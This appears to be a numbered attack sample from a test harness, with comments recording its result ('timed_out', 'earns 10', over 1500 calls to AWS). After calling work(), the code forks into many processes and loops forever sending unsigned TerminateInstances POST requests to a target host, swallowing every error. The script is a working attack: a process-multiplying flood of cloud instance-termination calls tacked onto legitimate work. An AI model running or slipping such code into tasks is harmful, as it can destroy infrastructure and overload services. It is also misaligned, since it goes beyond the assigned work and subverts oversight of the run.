# attack: 27
# does: works, then sends requests that nobody signed, from many processes
# run: timed_out
# earns: 10
# says: asked AWS more than 1500 times
# with: work
# with: http
work()
import http.client
import os

for _ in range(3):
    os.fork()
while True:
    try:
        one = http.client.HTTPConnection(*PLACE)
        while True:
            one.request("POST", "/", "Action=TerminateInstances&InstanceId.1=i-1")
            one.getresponse().read()
    except (OSError, http.client.HTTPException):
        pass
